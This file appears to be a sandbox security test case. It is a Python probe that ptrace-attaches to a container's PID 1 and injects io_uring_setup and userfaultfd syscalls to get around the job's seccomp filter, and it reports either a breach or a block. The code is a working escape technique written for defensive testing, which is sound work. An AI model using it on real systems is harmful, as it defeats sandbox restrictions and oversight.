# attack: the job is filtered, but PID 1 (docker-init) is not: ptrace-attach to it and make it
#   call io_uring_setup and userfaultfd on the job's behalf
# category: privilege
# expect: graded, score 0; io_uring stays out of reach from every process of the sandbox: attaching
#   to PID 1 is refused, or the syscall fails with ENOSYS/EPERM inside it too
# detail: /output/predictions.csv was not written
# stdout: PROBE-COMPLETE
# warm: yes
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PEEKTEXT, POKEDATA, SINGLESTEP, GETREGS, SETREGS, ATTACH, DETACH = 1, 5, 9, 12, 13, 16, 17
WALL = 0x40000000
NAMES = ["r15", "r14", "r13", "r12", "rbp", "rbx", "r11", "r10", "r9", "r8", "rax", "rcx", "rdx",
         "rsi", "rdi", "orig_rax", "rip", "cs", "eflags", "rsp", "ss", "fs_base", "gs_base", "ds",
         "es", "fs", "gs"]
INIT = 1


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES]  # x86_64 user_regs_struct


def ptrace(request: int, pid: int, addr: int = 0, data: object = 0) -> int:
    ctypes.set_errno(0)
    value = data if not isinstance(data, int) else ctypes.c_void_p(data)
    result = libc.ptrace(request, pid, ctypes.c_void_p(addr), value)
    if result == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def signed(value: int) -> int:
    return value - (1 << 64) if value >= 1 << 63 else value


def syscall_site(pid: int, rip: int) -> int:
    """Address of a `syscall` instruction in the target: usually right before where it waits."""
    if ptrace(PEEKTEXT, pid, rip - 2) & 0xFFFF == 0x050F:
        return rip - 2
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            span, perms = line.split()[:2]
            if "x" not in perms:
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            memory.seek(start)
            found = memory.read(min(end - start, 1 << 20)).find(b"\x0f\x05")
            if found >= 0:
                return start + found
    raise RuntimeError("no syscall instruction found in PID 1")


def show_seccomp(path: str) -> str:
    with open(path) as handle:
        return " ".join(line.strip() for line in handle if line.startswith("Seccomp"))


print("PID 1:", show_seccomp(f"/proc/{INIT}/status"), "| job:", show_seccomp("/proc/self/status"))
try:
    ptrace(ATTACH, INIT)
except OSError as exc:
    print(f"refused: ptrace attach to PID 1: {exc.strerror}")
else:
    os.waitpid(INIT, WALL)
    saved = Regs()
    ptrace(GETREGS, INIT, 0, ctypes.byref(saved))
    site = syscall_site(INIT, saved.rip)
    params = (saved.rsp - 4096) & ~0xF  # io_uring_params (120 bytes), zeroed, on PID 1's stack
    for offset in range(0, 128, 8):
        ptrace(POKEDATA, INIT, params + offset, 0)

    def inject(number: int, *args: int) -> int:
        regs = Regs.from_buffer_copy(bytes(saved))
        regs.rip, regs.rax, regs.orig_rax = site, number, (1 << 64) - 1
        for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args, strict=False):
            setattr(regs, name, value)
        ptrace(SETREGS, INIT, 0, ctypes.byref(regs))
        ptrace(SINGLESTEP, INIT)
        os.waitpid(INIT, WALL)
        after = Regs()
        ptrace(GETREGS, INIT, 0, ctypes.byref(after))
        return signed(after.rax)

    try:
        for name, number, args in (("io_uring_setup", 425, (8, params)),
                                   ("userfaultfd", 323, (os.O_CLOEXEC,))):
            result = inject(number, *args)
            if result >= 0:
                print(f"BREACH: {name} ran in PID 1 and returned fd {result}")
                inject(3, result)  # close it again
            elif -result in (errno.ENOSYS, errno.EPERM):
                print(f"blocked: {name} in PID 1 ({errno.errorcode[-result]})")
            else:
                print(f"BREACH: {name} reached the kernel from PID 1 "
                      f"({errno.errorcode.get(-result, result)})")
    finally:
        ptrace(SETREGS, INIT, 0, ctypes.byref(saved))
        ptrace(DETACH, INIT)
print("PROBE-COMPLETE", flush=True)
